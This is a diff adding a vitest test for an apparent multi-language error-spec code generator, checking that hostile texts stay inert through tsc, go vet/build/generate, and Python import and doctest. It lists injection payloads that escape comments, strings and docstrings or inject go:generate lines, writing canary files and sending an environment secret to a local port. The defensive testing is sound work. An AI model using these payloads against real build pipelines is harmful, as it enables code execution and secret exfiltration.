@@ -1,0 +1,269 @@
+import { mkdtempSync, readdirSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
+import { createServer } from "node:net";
+import type { AddressInfo, Server } from "node:net";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { put, temporaryFolder } from "../support/folder.js";
+import { describeWith, root, run } from "../support/tools.js";
+import { filesOf, fittedTexts } from "./oracle.js";
+import { variants } from "./payloads.js";
+import { randomSpec } from "./random-spec.js";
+import { filledSpec } from "./spec.js";
+import type { Spec } from "./spec.js";
+
+/*
+ * Hostile specs go through the real tools of each language, in a folder with a canary: texts that would write a file,
+ * and texts that would send a secret of the environment to a port that listens. Nobody may touch either.
+ *
+ * CI takes a few specs; `TOOLS_SPECS=300 npx vitest run test/hostile/tools` is a campaign.
+ */
+
+const count = Number(process.env["TOOLS_SPECS"] ?? 16);
+const languages = ["typescript", "go", "python"];
+const secret = "canary-5d1c";
+
+/** Texts that do something as soon as somebody takes them for code. */
+function actingTexts(port: number, canary: string): string[] {
+  const js = `require("fs").writeFileSync(${JSON.stringify(canary)},"js")`;
+  const send = `fetch("http://127.0.0.1:${port}/"+process.env.CANARY)`;
+  const py = `__import__("pathlib").Path(${JSON.stringify(canary)}).write_text("py")`;
+  const pySend = `__import__("urllib.request").request.urlopen("http://127.0.0.1:${port}/"+__import__("os").environ["CANARY"])`;
+  const go = `func init() { _ = os.WriteFile(${JSON.stringify(canary)}, nil, 0o600) }`;
+  return [
+    `*/ ${js}; /*`,
+    `*/ ${send}; /*`,
+    `"; ${js}; "`,
+    `'; ${send}; '`,
+    `\`; ${js}; \``,
+    `\${${js}}`,
+    `\${${send}}`,
+    `\n${js}\n`,
+    `\u2028${js}\u2029`,
+    `"+${js}+"`,
+    `", [${js}]: "`,
+    `"""\n${py}\n"""`,
+    `'''\n${pySend}\n'''`,
+    `"\n${py}\n"`,
+    `\\"""\n${py}\n"""`,
+    `{${py}}`,
+    `>>> ${py}`,
+    `\n>>> ${pySend}\n`,
+    `\n    >>> ${py}\n    4\n`,
+    `coding: utf-7\n+AAo-${py}`,
+    `# -*- coding: utf-7 -*-`,
+    `\n${go}\n`,
+    `*/ ${go} /*`,
+    `"\n${go}\n//"`,
+    `\`\n${go}\n//`,
+    `//go:generate touch ${canary}`,
+    `\n//go:generate touch ${canary}\n`,
+    `\r//go:generate touch ${canary}\r`,
+    `\n//go:generate curl http://127.0.0.1:${port}/\n`,
+    `//go:embed ${canary}`,
+    "//go:build ignore",
+    "// +build ignore",
+    "@internal",
+    "@ts-nocheck",
+    `<script>${send}</script>`,
+    `{{${js}}}`,
+  ];
+}
+
+interface Sandbox {
+  readonly folder: string;
+  readonly server: Server;
+  readonly visits: string[];
+  readonly specs: readonly Spec[];
+}
+
+describeWith(["go", "python3"], `${count} hostile specs in the tools of each language`, () => {
+  let box: Sandbox;
+  const env = { CANARY: secret, GOPROXY: "off" };
+
+  beforeAll(async () => {
+    const visits: string[] = [];
+    const server = createServer((socket) => {
+      socket
+        .on("error", () => undefined)
+        .on("data", (data) => {
+          visits.push(data.toString("latin1"));
+          socket.end();
+        });
+    });
+    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
+    const folder = mkdtempSync(join(tmpdir(), "errspec-hostile-"));
+    const acting = actingTexts((server.address() as AddressInfo).port, join(folder, "canary"));
+    const texts = [...acting, ...variants];
+    const specs: Spec[] = [];
+    for (let nth = 0; nth < count; nth++) {
+      // Each other text is one that acts; the others come from the whole list, over all specs.
+      const { next } = fittedTexts((index) =>
+        index % 2 === 0
+          ? (acting[(nth * 7 + index / 2) % acting.length] ?? "")
+          : (texts[(nth * 41 + index * 13) % texts.length] ?? ""),
+      );
+      specs.push(nth % 2 === 0 ? filledSpec(next, nth % 4 === 0) : randomSpec(nth).make(next));
+    }
+    for (const [nth, spec] of specs.entries()) {
+      const files = await filesOf({ ...spec, targets: optionsOf(nth) }, languages);
+      for (const [path, text] of files) put(folder, { [path.replace("/", `/p${nth}/`)]: text });
+    }
+    symlinkSync(join(root, "node_modules"), join(folder, "node_modules"));
+    box = { folder, server, visits, specs };
+  });
+  afterAll(() => {
+    box.server.close();
+    rmSync(box.folder, { recursive: true });
+  });
+
+  /** Options under which packages do not meet. */
+  const optionsOf = (nth: number): object => ({
+    typescript: { package: `p${nth}` },
+    go: { module: `example.com/p${nth}`, package: `p${nth}` },
+    python: { package: `p${nth}` },
+  });
+
+  const untouched = (): void => {
+    expect(box.visits).toEqual([]);
+    expect(readdirSync(box.folder).filter((name) => name.startsWith("canary"))).toEqual([]);
+  };
+
+  it("TypeScript compiles them, strips what is internal, and runs them", { timeout: 1_800_000 }, async () => {
+    const config = {
+      compilerOptions: {
+        target: "es2022",
+        lib: ["es2024"],
+        module: "nodenext",
+        strict: true,
+        stripInternal: true,
+        declaration: true,
+        sourceMap: true,
+        types: ["node"],
+        rootDir: "typescript",
+        outDir: "js",
+      },
+      include: ["typescript/*/src"],
+    };
+    writeFileSync(join(box.folder, "tsconfig.json"), JSON.stringify(config));
+    writeFileSync(join(box.folder, "package.json"), '{ "type": "module" }');
+    const tsc = join(root, "node_modules", "typescript", "bin", "tsc");
+    expect(await run(process.execPath, [tsc, "-p", "."], { cwd: box.folder, env })).toEqual({
+      status: 0,
+      stdout: "",
+      stderr: "",
+    });
+    const entries = box.specs.map((_, nth) => `await import("./js/p${nth}/src/index.js");\n`);
+    writeFileSync(join(box.folder, "all.mjs"), entries.join(""));
+    expect(await run(process.execPath, ["all.mjs"], { cwd: box.folder, env })).toMatchObject({ status: 0, stderr: "" });
+    untouched();
+  });
+
+  it("Go vets, builds and generates them, and runs their tests", { timeout: 1_800_000 }, async () => {
+    const uses = box.specs.map((_, nth) => `use ./go/p${nth}\n`);
+    writeFileSync(join(box.folder, "go.work"), `go 1.19\n\n${uses.join("")}`);
+    const patterns = box.specs.map((_, nth) => `./go/p${nth}/...`);
+    for (const command of [["vet"], ["build"], ["generate"], ["test", "-run", "^$"]]) {
+      const ran = await run("go", [...command, ...patterns], { cwd: box.folder, env });
+      expect(ran, command.join(" ")).toMatchObject({ status: 0, stderr: "" });
+    }
+    untouched();
+  });
+
+  it("read back, at run time, what their specs say", { timeout: 600_000 }, async () => {
+    const layered = box.specs.flatMap((_, nth) => (nth % 4 === 0 ? [nth] : []));
+    const expected = layered.map((nth) => textsOf(box.specs[nth]));
+    expect(expected.flat(2).length).toBeGreaterThanOrEqual(8 * layered.length);
+
+    const js = layered.map((nth) => `import { thingsInfo as p${nth} } from "./js/p${nth}/src/things/index.js";\n`);
+    const jsCalls = layered.map((nth) => `[1, 2, 3, 4].map((code) => [p${nth}(code).text.zh, p${nth}(code).text.en])`);
+    writeFileSync(
+      join(box.folder, "read.mjs"),
+      `${js.join("")}console.log(JSON.stringify([${jsCalls.join(", ")}]));\n`,
+    );
+    const typescript = await run(process.execPath, ["read.mjs"], { cwd: box.folder });
+    expect(JSON.parse(typescript.stdout)).toEqual(expected);
+
+    const rows = layered.map((nth) => `\t\t{${[1, 2, 3, 4].map((code) => `read${nth}(${code})`).join(", ")}},\n`);
+    const readers = layered.map(
+      (nth) => `func read${nth}(code p${nth}.Code) [2]string {
+\tinfo, _ := code.Info()
+\treturn [2]string{info.Text.ZH, info.Text.EN}
+}
+`,
+    );
+    const imports = layered.map((nth) => `import p${nth} "example.com/p${nth}/things"\n`);
+    put(join(box.folder, "go", "read"), {
+      "go.mod": "module example.com/read\n\ngo 1.19\n",
+      "main.go": `package main\n\nimport "encoding/json"\nimport "os"\n${imports.join("")}
+${readers.join("\n")}
+func main() { _ = json.NewEncoder(os.Stdout).Encode([][][2]string{\n${rows.join("")}\t}) }\n`,
+    });
+    const uses = ["read", ...layered.map((nth) => `p${nth}`)].map((name) => `use ./go/${name}\n`);
+    writeFileSync(join(box.folder, "go.work"), `go 1.19\n\n${uses.join("")}`);
+    const go = await run("go", ["run", "./go/read"], { cwd: box.folder, env });
+    expect(JSON.parse(go.stdout), go.stderr).toEqual(expected);
+
+    const reader = `
+import importlib, json, sys
+read = []
+for nth in ${JSON.stringify(layered)}:
+    sys.path.insert(0, f"python/p{nth}")
+    errors = importlib.import_module(f"p{nth}.things").ERRORS
+    read.append([[errors[code].info.text["zh"], errors[code].info.text["en"]] for code in (1, 2, 3, 4)])
+print(json.dumps(read))
+`;
+    const python = await run("python3", ["-X", "utf8", "-c", reader], { cwd: box.folder });
+    expect(JSON.parse(python.stdout)).toEqual(expected);
+  });
+
+  it("Python compiles and imports them, without a warning or a doctest", { timeout: 1_800_000 }, async () => {
+    const program = `
+import doctest, importlib, pathlib, sys
+for nth in range(${box.specs.length}):
+    sys.path.insert(0, f"python/p{nth}")
+    for file in sorted(pathlib.Path(f"python/p{nth}/p{nth}").glob("*.py")):
+        name = f"p{nth}" if file.stem == "__init__" else f"p{nth}.{file.stem}"
+        failed, attempted = doctest.testmod(importlib.import_module(name))
+        assert attempted == 0, name
+`;
+    const ran = await run("python3", ["-W", "error", "-X", "utf8", "-c", program], { cwd: box.folder, env });
+    expect(ran).toEqual({ status: 0, stdout: "", stderr: "" });
+    const compiled = await run("python3", ["-W", "error", "-m", "compileall", "-q", "python"], {
+      cwd: box.folder,
+      env,
+    });
+    expect(compiled).toEqual({ status: 0, stdout: "", stderr: "" });
+    untouched();
+  });
+});
+
+/** The texts of the entries of the last module, as every language can hold them. */
+function textsOf(spec: Spec | undefined): string[][] {
+  const modules = spec?.["modules"] as { readonly errors: readonly { readonly text: Record<string, string> }[] }[];
+  const errors = modules.at(-1)?.errors ?? [];
+  return errors.map(({ text }) => ["zh", "en"].map((locale) => (text[locale] ?? "").trim().toWellFormed()));
+}
+
+describe("the canary", () => {
+  it("is touched by texts that are run", async () => {
+    const visits: string[] = [];
+    const server = createServer((socket) => {
+      socket.on("data", (data) => {
+        visits.push(data.toString("latin1"));
+        socket.end();
+      });
+    });
+    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
+    const folder = temporaryFolder();
+    const [file] = actingTexts(1, join(folder, "canary"));
+    await run(process.execPath, ["-e", `/* ${file ?? ""} */`], { cwd: folder });
+    expect(readdirSync(folder)).toEqual(["canary"]);
+    const [, send] = actingTexts((server.address() as AddressInfo).port, "");
+    await run(process.execPath, ["-e", `/* ${send?.replace("; /*", ".catch(() => 0); /*") ?? ""} */`], {
+      env: { CANARY: secret },
+    });
+    expect(visits.join("")).toContain(secret);
+    server.close();
+  });
+});
